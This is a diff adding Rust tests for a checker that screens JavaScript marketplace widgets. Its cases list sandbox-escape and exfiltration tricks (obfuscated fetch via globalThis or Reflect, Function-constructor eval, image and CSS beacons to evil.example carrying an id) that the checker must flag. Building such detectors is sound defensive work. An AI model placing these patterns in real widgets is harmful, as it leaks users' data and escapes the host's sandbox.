@@ -139,7 +139,8 @@ fn imports_other_than_files_and_the_hosts_modules_are_refused() {
         ("import './missing.js'", "widget.missing-module"),
         ("import('./missing.js')", "widget.missing-module"),
         ("import(name)\nvar name", "widget.dynamic-import"),
-        ("import('./' + 'x.js')", "widget.dynamic-import"),
+        ("import('./' + 'x.js')", "widget.missing-module"),
+        ("import('./' + name)\nvar name", "widget.dynamic-import"),
     ] {
         assert_eq!(rules(with(import)), [rule], "{import}");
     }
@@ -206,7 +207,44 @@ fn what_a_browser_offers_and_a_widget_cannot_use_is_refused() {
         ("window.location.href = 'x'", "widget.navigation"),
         ("open('https://evil.example')", "widget.navigation"),
         ("navigator.geolocation", "widget.device"),
-        ("window[name]\nvar name = 'a' + 'b'", "widget.hidden-global"),
+        ("window[name]\nvar name = String(1)", "widget.hidden-global"),
+        ("globalThis['fe' + 'tch']('/x')", "widget.network"),
+        ("const a = 'fe', b = `${a}tch`; window[b]('/x')", "widget.network"),
+        ("window[on ? 'fetch' : 'blur']()\nvar on", "widget.network"),
+        ("const w = window; w.fetch('/x')", "widget.network"),
+        ("const g = typeof globalThis === 'object' ? globalThis : self; g.fetch('/x')", "widget.network"),
+        ("const g = globalThis || window, h = g; h['fetch']('/x')", "widget.network"),
+        ("const { fetch: f } = window", "widget.network"),
+        ("const { 'fetch': f } = globalThis", "widget.network"),
+        ("let fetch; ({ fetch } = window)", "widget.network"),
+        ("let f; ({ fetch: f } = window)", "widget.network"),
+        ("const { sendBeacon } = navigator", "widget.network"),
+        ("const { cookie } = document", "widget.storage"),
+        ("const { ...all } = window", "widget.hidden-global"),
+        ("const { [k]: all } = document\nvar k", "widget.hidden-global"),
+        ("Function('return this')().fetch('/x')", "widget.network"),
+        ("const n = navigator; n.sendBeacon('/x')", "widget.network"),
+        ("Reflect.get(window, 'fetch')('/x')", "widget.network"),
+        ("Reflect.get(globalThis, k)\nvar k", "widget.hidden-global"),
+        ("Object.getOwnPropertyDescriptor(document, 'cookie')", "widget.storage"),
+        ("Function.prototype.constructor('x')", "widget.code"),
+        ("Function.apply(null, ['x'])", "widget.code"),
+        ("const F = Function; F('x')", "widget.code"),
+        ("(() => {}).constructor('x')", "widget.code"),
+        ("(async function () {}).constructor", "widget.code"),
+        ("[].constructor.constructor('return 1')()", "widget.code"),
+        ("''['constructor']['constructor']", "widget.code"),
+        ("x.constructor('return 1')\nvar x", "widget.code"),
+        ("setTimeout('alert(' + x + ')', 1)\nvar x", "widget.code"),
+        ("setInterval(`alert(${x})`, 1)\nvar x", "widget.code"),
+        ("WebAssembly.instantiate(x)\nvar x", "widget.code"),
+        ("new BroadcastChannel('x')", "widget.network"),
+        ("new webkitSpeechRecognition()", "widget.device"),
+        ("location.assign('x')", "widget.navigation"),
+        ("location.href = 'x'", "widget.navigation"),
+        ("[location.href] = ['x']", "widget.navigation"),
+        ("for (location.hash of ['x']);", "widget.navigation"),
+        ("const l = location", "widget.navigation"),
         ("document[1 + 1]", "widget.hidden-global"),
         ("const react = require('react')", "widget.commonjs"),
     ] {
@@ -230,6 +268,12 @@ fn a_name_is_judged_by_what_it_is_bound_to() {
         "setTimeout(() => {}, 1); (() => {}) instanceof Function",
         "const words = 'fetch eval localStorage'; /* fetch('x') */ // eval('x')",
         "import { open } from './w.js'; open()",
+        "class E { clone() { return new this.constructor('x'); } }",
+        "const root = typeof self === 'object' ? self : Function('return this')(); root.Symbol; root[String(1)]",
+        "document[on ? 'addEventListener' : 'removeEventListener']('x', () => {}); var on",
+        "if (window.location === void 0 || null == window.fetch || window.parent !== window) setTimeout(() => {})",
+        "window.location.hostname; location.hash.slice(1)",
+        "typeof exports === 'object' && exports; typeof module === 'object' && module",
     ] {
         let module = format!("{code}\nexport default function Widget() {{ return null; }}");
         assert_eq!(
@@ -265,8 +309,28 @@ fn topics_are_read_where_they_can_be_seen() {
         let expected: Vec<&str> = [expected].into_iter().filter(|rule| !rule.is_empty()).collect();
         assert_eq!(rules(with(&format!("{import}{code}"))), expected, "{code}");
     }
+    for (code, expected) in [
+        ("W.useTopic('metrics.cpu'); W.useSettings()", ""),
+        ("W['use' + 'Topic']('metrics.' + 'cpu')", ""),
+        ("(0, W.useTopic)('metrics.cpu')", ""),
+        ("W.useTopic?.(`metrics.cpu`)", ""),
+        ("W.useTopic('metrics.memory')", "widget.undeclared-topic"),
+        ("(0, W.subscribe)('metrics.memory', () => {})", "widget.undeclared-topic"),
+        ("W['useTopic'](x); var x", "widget.hidden-topic"),
+        ("const f = W.useTopic", "widget.hidden-topic"),
+        ("W.useTopic.call(null, 'secret')", "widget.hidden-topic"),
+    ] {
+        let expected: Vec<&str> = [expected].into_iter().filter(|rule| !rule.is_empty()).collect();
+        assert_eq!(
+            rules(with(&format!("import * as W from '@marketplace/widget';\n{code}"))),
+            expected,
+            "{code}"
+        );
+    }
     for import in [
-        "import * as host from '@marketplace/widget'",
+        "import * as host from '@marketplace/widget'; const all = host",
+        "import * as host from '@marketplace/widget'; host[x]('metrics.cpu'); var x",
+        "import * as host from '@marketplace/widget'; host.readEverything()",
         "import host from '@marketplace/widget'",
         "import { readEverything } from '@marketplace/widget'",
         "export { useTopic } from '@marketplace/widget'",
@@ -322,7 +386,56 @@ fn source_that_no_browser_runs_is_named_for_what_it_is() {
     assert_eq!(one("export default function (").rule, "widget.syntax");
     assert_eq!(one("let a; let a; export default () => a").rule, "widget.syntax");
     assert_eq!(one("with (a) {}\nexport default () => 1").rule, "widget.syntax");
-    assert_eq!(rules(read(&[("widget.js", "module.exports = () => null")])), ["widget.export"]);
+    assert_eq!(rules(read(&[("widget.js", "module.exports = () => null")])), ["widget.commonjs"]);
+}
+
+#[test]
+fn what_is_drawn_loads_nothing_from_elsewhere_and_leads_nowhere() {
+    let import = "import { jsx as _jsx } from 'react/jsx-runtime';\nimport React, { createElement as h } from 'react';\nvar id;\n";
+    for (code, rule) in [
+        ("_jsx('img', { src: 'https://evil.example/x.png' })", "widget.network"),
+        ("_jsx('img', { src: `https://evil.example/${id}` })", "widget.network"),
+        ("_jsx('img', { 'srcSet': '//evil.example/x.png 2x' })", "widget.network"),
+        ("h('video', { poster: 'ht' + 'tps://evil.example' })", "widget.network"),
+        ("React.createElement('image', { xlinkHref: 'https://evil.example/x' })", "widget.network"),
+        ("(0, React.createElement)('img', { src: '\\\\\\\\evil.example' })", "widget.network"),
+        ("new Image().src = 'https://evil.example/?' + id", "widget.network"),
+        ("_jsx('a', { href: 'https://evil.example' })", "widget.navigation"),
+        ("_jsx('form', { action: 'https://evil.example' })", "widget.navigation"),
+        ("_jsx('a', { href: 'java\\nscript:alert(1)' })", "widget.code"),
+        ("id.setAttribute('src', 'https://evil.example')", "widget.network"),
+        ("_jsx('iframe', {})", "widget.element"),
+        ("_jsx('link', { rel: 'prefetch', href: './x' })", "widget.element"),
+        ("document.createElement('SCRIPT')", "widget.element"),
+        ("document.createElementNS('http://www.w3.org/1999/xhtml', 'b')", ""),
+        ("_jsx('div', { style: { backgroundImage: 'url(https://evil.example/x)' } })", "widget.network"),
+        ("const css = `@import url(\"//evil.example/x.css\");`", "widget.network"),
+        ("const css = '.x { background: URL( \\'https://evil.example\\' ) }'", "widget.network"),
+        ("_jsx('svg', { xmlns: 'http://www.w3.org/2000/svg', children: _jsx('use', { href: '#x' }) })", ""),
+        (
+            "_jsx('form', { onSubmit: () => {} }); _jsx('img', { src: new URL('./x.png', import.meta.url).href })",
+            "",
+        ),
+        ("const o = { src: 'https://evil.example' }", ""),
+    ] {
+        let expected: Vec<&str> = [rule].into_iter().filter(|rule| !rule.is_empty()).collect();
+        assert_eq!(rules(with(&format!("{import}{code}"))), expected, "{code}");
+    }
+    let widget =
+        with(&format!("{import}_jsx('p', {{ dangerouslySetInnerHTML: {{ __html: id }} }})")).unwrap();
+    assert!(remarks(&widget).contains(&"widget.markup"));
+}
+
+#[test]
+fn a_module_of_a_hundred_thousand_uses_is_judged_in_no_time() {
+    let start = std::time::Instant::now();
+    assert!(with(&format!("var f = () => 1;{}", "f(1);".repeat(80_000))).is_ok());
+    let many = "fetch;".repeat(80_000);
+    assert_eq!(rules(with(&many)).len(), 50);
+    let many = "f(window);".repeat(50_000);
+    assert_eq!(with(&format!("var f = () => 1;{many}")).unwrap().remarks.len(), 50);
+    // Tenths of a second; with a look at every use for every use it was half a minute.
+    assert!(start.elapsed().as_secs() < 10, "{:?}", start.elapsed());
 }
 
 #[test]
